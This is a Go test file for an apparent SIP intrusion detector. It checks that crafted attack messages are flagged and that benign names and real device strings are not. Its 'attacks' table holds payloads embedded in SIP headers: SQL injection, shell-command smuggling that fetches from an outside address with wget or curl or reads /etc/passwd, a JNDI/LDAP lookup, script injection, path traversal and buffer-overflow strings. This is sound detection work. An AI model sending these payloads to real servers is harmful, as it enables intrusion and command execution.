package detect

import (
	"bufio"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/sipward/sipward/internal/event"
	"github.com/sipward/sipward/internal/packet"
	"github.com/sipward/sipward/internal/sip"
	wires "github.com/sipward/sipward/internal/source"
)

// wire lays datagrams of one source before an engine, as a capture gives them.
type wire struct {
	*bench
	packets *wires.Packets
}

func newWire() *wire {
	s := &wires.Sides{Local: func(a netip.Addr) bool { return a == server.Addr() }, Ports: map[uint16]bool{5060: true}}
	return &wire{newBench(), wires.NewPackets(s)}
}

// datagram gives what the engine finds in one, whose sender has proved as much.
func (w *wire) datagram(text []byte, proof event.Grade) []Finding {
	w.wait(time.Second)
	e := w.packets.Read(&wires.Frame{Time: w.now, Link: packet.RawIP, Data: packet.BuildUDP(w.from, server, text)})
	if e == nil {
		return nil
	}
	e.Proof = proof
	return w.See(e)
}

// message is an ordinary OPTIONS with some lines replaced, by header name.
func message(replaced ...string) []byte {
	lines := []string{
		"OPTIONS sip:100@192.0.2.10 SIP/2.0", "Via: SIP/2.0/UDP 203.0.113.7:5060;branch=z9hG4bKa1;rport",
		"Max-Forwards: 70", "From: \"Anna\" <sip:200@192.0.2.10>;tag=a1", "To: <sip:100@192.0.2.10>",
		"Call-ID: a1@203.0.113.7", "CSeq: 1 OPTIONS", "User-Agent: Yealink SIP-T46U 108.86.0.20", "Content-Length: 0",
	}
	for _, r := range replaced {
		name, _, _ := strings.Cut(r, ":")
		for i := range lines {
			if strings.HasPrefix(lines[i], name) {
				lines[i] = r
				r = ""
			}
		}
		if r != "" {
			lines = append(lines, r)
		}
	}
	return []byte(strings.Join(lines, "\r\n") + "\r\n\r\n")
}

// attacks are messages that no device writes: one of each is enough.
var attacks = []struct {
	name  string
	text  []byte
	class Class
}{
	{"a tautology in From", message("From: <sip:1001'%20OR%20'1'='1@192.0.2.10>;tag=a"), ClassInjection},
	{"the same with plus signs", message("From: <sip:1001'+or+1=1--@192.0.2.10>;tag=a"), ClassInjection},
	{"the same with comments", message("From: <sip:1001'/**/or/**/'1'='1@192.0.2.10>;tag=a"), ClassInjection},
	{"a comment behind a quote", message("To: <sip:admin'--@192.0.2.10>"), ClassInjection},
	{"a statement", message("From: <sip:';drop%20table%20users;--@192.0.2.10>;tag=a"), ClassInjection},
	{"a blank in a user", message("OPTIONS sip:1001' OR '1'='1@192.0.2.10 SIP/2.0"), ClassInjection},
	{"a union in a display name", message("From: \"1 UNION ALL SELECT 1,2,3\" <sip:1@192.0.2.10>;tag=a"), ClassInjection},
	{"a sleeping database", message("User-Agent: x' AND SLEEP(5)#"), ClassInjection},
	{"a tautology in the credentials", message("Authorization: Digest username=\"a' or 'a'='a\", realm=\"x\", nonce=\"n\", uri=\"sip:x\", response=\"r\""), ClassInjection},
	{"a command in a user", message("To: <sip:100;wget%20http://203.0.113.9/x@192.0.2.10>"), ClassInjection},
	{"a command substitution", message("User-Agent: $(curl http://203.0.113.9)"), ClassInjection},
	{"a file of the system", message("To: <sip:x|cat%20/etc/passwd@192.0.2.10>"), ClassInjection},
	{"a lookup of a logger", message("User-Agent: ${jndi:ldap://203.0.113.9/x}"), ClassInjection},
	{"a sum in a template", message("From: \"{{7*7}}\" <sip:1@192.0.2.10>;tag=a"), ClassInjection},
	{"a script", message("From: \"<script>alert(1)</script>\" <sip:1@192.0.2.10>;tag=a"), ClassInjection},
	{"a path", message("To: <sip:../../../voicemail@192.0.2.10>"), ClassInjection},
	{"a directory filter", message("To: <sip:*)(uid=*@192.0.2.10>"), ClassInjection},
	{"a header behind an escape", message("From: <sip:100%0d%0aX-Forged:%201@192.0.2.10>;tag=a"), ClassInjection},
	{"a line feed behind an escape", message("OPTIONS sip:100%0a@192.0.2.10 SIP/2.0"), ClassInjection},
	{"a clause of the log", message("From: \"x' failed for '198.51.100.20:5060' (callid: y\" <sip:1@192.0.2.10>;tag=a"), ClassInjection},
	{"conversions", message("From: <sip:%25n%25n%25n@192.0.2.10>;tag=a"), ClassExploit},
	{"conversions in a program's name", message("User-Agent: %s%s%s%s%s"), ClassExploit},
	{"a row of NUL", message("To: <sip:" + strings.Repeat("%00", 300) + "@192.0.2.10>"), ClassExploit},
	{"a long user", message("To: <sip:" + strings.Repeat("A", 2000) + "@192.0.2.10>"), ClassExploit},
	{"a long target", message("OPTIONS sip:" + strings.Repeat("A", 3000) + " SIP/2.0"), ClassExploit},
	{"a huge header", message("X-A: " + strings.Repeat("C", 30000)), ClassExploit},
	{"a flood of headers", message(strings.TrimSuffix(strings.Repeat("X-A: 1\r\n", 200), "\r\n")), ClassExploit},
	{"a flood of Vias", message("Via: " + strings.Repeat("SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx, ", 80) + "SIP/2.0/UDP 192.0.2.4"), ClassExploit},
}

func TestOneAttackLimits(t *testing.T) {
	for _, test := range attacks {
		w := newWire()
		for _, proof := range []event.Grade{event.None, event.GradeC, event.GradeA} {
			w.from = netip.AddrPortFrom(w.from.Addr().Next(), 5060)
			found := w.datagram(test.text, proof)
			if len(found) != 1 || found[0].Rule != "protocol" || found[0].Class != test.class || found[0].Proof != event.None ||
				found[0].Evidence >= DropBound || found[0].Why == "" {
				t.Errorf("%s, proof %v: %+v", test.name, proof, found)
			}
			if found = w.datagram(test.text, event.None); len(found) > 0 {
				t.Errorf("%s: reported again at once", test.name)
			}
			w.wait(time.Minute)
			if found = w.datagram(test.text, event.None); len(found) != 1 {
				t.Errorf("%s: not reported again after a minute", test.name)
			}
		}
	}
}

func TestTwoProvenAttacksDrop(t *testing.T) {
	other := message("From: <sip:x'%20or%202=2@192.0.2.10>;tag=a")
	for _, test := range []struct {
		name          string
		first, second event.Grade
		again         []byte
		want          bool
	}{
		{"nothing is proven", event.None, event.None, other, false},
		{"one is", event.GradeA, event.None, other, false},
		{"the second is", event.None, event.GradeB, other, false},
		{"guessable", event.GradeC, event.GradeC, other, false},
		{"the same text again", event.GradeA, event.GradeA, attacks[0].text, false},
		{"both", event.GradeB, event.GradeA, other, true},
		{"two kinds", event.GradeB, event.GradeB, message("User-Agent: ${jndi:ldap://x}"), true},
	} {
		w := newWire()
		w.datagram(attacks[0].text, test.first)
		dropped := false
		for _, f := range w.datagram(test.again, test.second) {
			dropped = dropped || f.Evidence >= DropBound && f.Proof >= event.GradeB
		}
		if dropped != test.want {
			t.Errorf("%s: dropped %v", test.name, dropped)
		}
	}
}

// broken are messages that something broke, perhaps on purpose.
var broken = map[string][]byte{
	"no Call-ID":           []byte("OPTIONS sip:100@192.0.2.10 SIP/2.0\r\nVia: SIP/2.0/UDP 203.0.113.7;branch=z9hG4bK1\r\nFrom: <sip:1@x>;tag=a\r\nTo: <sip:1@x>\r\nCSeq: 1 OPTIONS\r\n\r\n"),
	"a CSeq of 66 bits":    message("CSeq: 99999999999999999999 OPTIONS"),
	"another method":       message("CSeq: 1 INVITE"),
	"a negative length":    message("Content-Length: -1"),
	"a length of 5 digits": message("Content-Length: 99999"),
	"SIP/3.0":              message("OPTIONS sip:100@192.0.2.10 SIP/3.0"),
	"NUL in the method":    message("OPTIONS sip:\x00@192.0.2.10 SIP/2.0"),
	"30 Vias":              message("Via: " + strings.Repeat("SIP/2.0/UDP 192.0.2.4;branch=z9hG4bKx, ", 30) + "SIP/2.0/UDP 192.0.2.4"),
	"two lengths":          message("Content-Length: 0\r\nContent-Length: 5"),
	"bad credentials":      message("Authorization: Digest " + strings.Repeat("x,", 500)),
}

// TestBrokenMessages: one breaks by accident, many kinds do not; and one kind
// for ever is a broken device.
func TestBrokenMessages(t *testing.T) {
	all := newWire()
	limited := 0
	for name, text := range broken {
		w := newWire()
		for range 100 {
			if found := w.datagram(text, event.GradeA); len(found) > 0 {
				t.Errorf("%s: %+v", name, found)
			}
		}
		limited += len(all.datagram(text, event.None))
	}
	if limited == 0 {
		t.Error("ten kinds of broken messages are not found")
	}
	w := newWire()
	dropped := false
	for range 2 {
		for _, text := range broken {
			for _, f := range w.datagram(text, event.GradeB) {
				dropped = dropped || f.Evidence >= DropBound && f.Class == ClassMalformed || f.Class == ClassExploit
			}
		}
	}
	if !dropped {
		t.Error("ten kinds of broken messages with proof are not dropped")
	}
}

// names are what people and devices call themselves.
var names = []string{
	"O'Brien", "D'Angelo", "L'Or Noir", "d'or", "Rock'n'Roll", "'Bob'", "o'neil-o'hara", "Anna%20Maria", "Jos%c3%a9", "M%c3%bcller",
	"bob@example.org", "bob%40example.org", "+442071838750", "*97", "%2397", "%2331%23+442071838750", "**62*", "*67;phone-context=x",
	"100-anna.home", "sip_trunk_01", "a=b", "x&y", "AT&T", "R&D (2nd floor)", "Unit;ext=5", "100%25", "50%25 off", "C:\\phones", "~anna",
	"${EXTEN}", "${CALLERID(num)}", "${EXTEN:1}", "{{user}}", "{{ line.1 }}", "$(MA)", "$USER", "%%USER%%", "<unknown>", "anonymous",
	"Union Select Insurance", "Union Select (London)", "Credit Union", "Drop Table Tennis Club", "The And/Or Gate", "Cat /2", "select, insert & update", "null", "admin",
	"1234567890123456789012345678901234567890", "4f2a;npdi;rn=+15551212", "\"quoted\"", "Shell Station", "Ping Ltd.", "node=1|port=2",
	"sales - delete from list", "Ops--Team", "#31#0301234567", "gr;opaque=uuid:f81d4fae", "a*b*c", "(0) 171", "../", "50*2", "tel:+1-201-555-0123",
}

func TestNamesOfPeople(t *testing.T) {
	w := newWire()
	for _, name := range names {
		for _, text := range [][]byte{
			message("From: <sip:" + name + "@192.0.2.10>;tag=a"), message("To: <sip:" + name + "@192.0.2.10>"),
			message("From: \"" + name + "\" <sip:100@192.0.2.10>;tag=a"), message("OPTIONS sip:" + name + "@192.0.2.10 SIP/2.0"),
			message("User-Agent: " + name), message("Call-ID: " + name), message("Authorization: Digest username=\"" + name + "\", nonce=\"n\", response=\"r\""),
		} {
			if found := w.datagram(text, event.GradeA); len(found) > 0 {
				t.Fatalf("%q: %+v", name, found)
			}
		}
	}
	if c := w.cases.Get(w.seed.Addr(caller.Addr())); c == nil || c.charges[0].weight > 3 {
		t.Errorf("names of people weigh %v", c.charges[0].weight)
	}
}

// TestRealDevices: no name of a real device shows a sign, and what is odd in
// their messages weighs next to nothing.
func TestRealDevices(t *testing.T) {
	file, err := os.Open("testdata/user-agents-legit.txt")
	if err != nil {
		t.Fatal(err)
	}
	defer file.Close()
	w, devices := newWire(), 0
	for lines := bufio.NewScanner(file); lines.Scan(); devices++ {
		if found := w.datagram(message("User-Agent: "+lines.Text()), event.None); len(found) > 0 {
			t.Errorf("%s: %+v", lines.Text(), found)
		}
	}
	if devices < 300 {
		t.Fatalf("only %d devices", devices)
	}
	for _, text := range []string{
		strings.ReplaceAll(string(message()), "\r\n", "\n"),
		strings.TrimSuffix(string(message()), "\r\n\r\n"), strings.TrimSuffix(string(message()), "\r\n"),
		"\r\n\r\n" + string(message()), string(message()) + "\x00\x00", string(message()) + "junk",
		string(message("Contact: <sip:100@192.0.2.7>;+sip.instance=<urn:uuid:1>;;q=1.0")), string(message("Via:  SIP/2.0/UDP\r\n 192.0.2.1")),
		string(message("From: Müller & Söhne <sip:100@192.0.2.10>;tag=a")), string(message("From: sip:100@192.0.2.10")),
		string(message("Max-Forwards: 300")), string(message("Date: heute")), string(message("Content-Length: 20")),
		string(message("From: \"Anna <sip:100@192.0.2.10>;tag=a")), string(message("Via: SIP/2.0/UDP my_host:5060;branch=z9hG4bK")),
		string(message("Identity: " + strings.Repeat("e", 3000))), string(message("Authorization: Digest username=anna,,nonce=x,")),
	} {
		if found := w.datagram([]byte(text), event.None); len(found) > 0 {
			t.Errorf("%q: %+v", text, found)
		}
	}
	if c := w.cases.Get(w.seed.Addr(caller.Addr())); c.charges[0].weight > 3 {
		t.Errorf("real devices weigh %v together", c.charges[0].weight)
	}
}

// TestTortureIsNoAttack: what RFC 4475 and RFC 5118 want accepted gives
// nothing, all of it from one source; nor do the others, one by one.
func TestTortureIsNoAttack(t *testing.T) {
	files, err := filepath.Glob("../sip/testdata/torture/*/*.dat")
	if err != nil || len(files) < 50 {
		t.Fatalf("%d messages, %v", len(files), err)
	}
	w, valid := newWire(), 0
	for _, name := range files {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		var m sip.Message
		if m.Parse(text); m.Acceptable() {
			valid++
			if found := w.datagram(text, event.GradeA); len(found) > 0 {
				t.Errorf("%s: %+v", name, found)
			}
		}
		one := newWire()
		for _, f := range one.datagram(text, event.GradeA) {
			if filepath.Base(name) == "multi01.dat" {
				continue // it must be refused, and says twice who sends it
			}
			t.Errorf("%s alone: %v", name, f.Why)
		}
	}
	if valid < 35 {
		t.Errorf("only %d are valid", valid)
	}
}

// TestWhoIsNotCharged: a source that knew a password, and the text of one whose
// calls get through.
func TestWhoIsNotCharged(t *testing.T) {
	good, carrier := newWire(), newWire()
	good.outcome(event.Accepted, "100", event.GradeA)
	carrier.ends(event.Outcome{Result: event.Served, Account: "100", Method: event.INVITE, Status: 200})
	for _, test := range attacks {
		if found := good.datagram(test.text, event.GradeA); len(found) > 0 {
			t.Errorf("%s from a good phone: %+v", test.name, found)
		}
		if found := carrier.datagram(test.text, event.GradeA); len(found) > 0 && test.class == ClassInjection {
			t.Errorf("%s from a carrier: %+v", test.name, found)
		}
	}
	carrier.wait(25 * time.Hour)
	if len(carrier.datagram(attacks[1].text, event.None)) == 0 {
		t.Error("a call let through a day before excuses everything")
	}
}

// TestUnreadableByTheLog: the server says that it could not read something.
func TestUnreadableByTheLog(t *testing.T) {
	for _, test := range []struct {
		pace        time.Duration
		proof       event.Grade
		limit, drop int
	}{
		{15 * time.Second, event.GradeC, 0, 0},
		{5 * time.Second, event.GradeB, 0, 0},
		{100 * time.Millisecond, event.GradeC, 5, 0},
		{100 * time.Millisecond, event.GradeB, 5, 9},
	} {
		b := newBench()
		limit, drop := 0, 0
		for i := range 100 {
			b.wait(test.pace)
			for _, f := range b.ends(event.Outcome{Result: event.Malformed, Proof: test.proof, Text: true}) {
				if f.Class != ClassMalformed || !f.Text {
					t.Errorf("%+v", f)
				}
				switch {
				case f.Proof >= event.GradeB && drop == 0:
					drop = i + 1
				case f.Proof == event.None && limit == 0:
					limit = i + 1
				}
			}
		}
		if limit != test.limit || drop != test.drop {
			t.Errorf("every %v, proof %v: limited at line %d, dropped at %d; want %d and %d", test.pace, test.proof, limit, drop, test.limit, test.drop)
		}
	}
}

// FuzzSigns: no text breaks the search, and a plain one never shows anything.
func FuzzSigns(f *testing.F) {
	for _, name := range names {
		f.Add([]byte(name))
	}
	for _, test := range attacks {
		f.Add(test.text)
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		var scratch [longestText]byte
		for where := range place(2) {
			n := signOf(text, where, &scratch)
			if n >= len(signs) || n >= 0 && maskOf(text) == 0 {
				t.Errorf("%q shows sign %d, its mask is %b", text, n, maskOf(text))
			}
		}
		splitNumber(text)
	})
}

// TestFaultTablesFit: the places of both tables fit the set of those seen.
func TestFaultTablesFit(t *testing.T) {
	if n := len(faults) + len(signs); n > 64 {
		t.Errorf("%d faults and signs, and 64 places", n)
	}
	seen := map[string]bool{}
	for _, f := range faults {
		seen[f.name] = true
	}
	for i, f := range signs {
		seen[f.name] = true
		if i > 0 && f.weight > signs[i-1].weight {
			t.Errorf("%s is heavier than the sign before it", f.name)
		}
	}
	if len(seen) != len(faults)+len(signs) {
		t.Errorf("two faults have one name: %v", seen)
	}
}
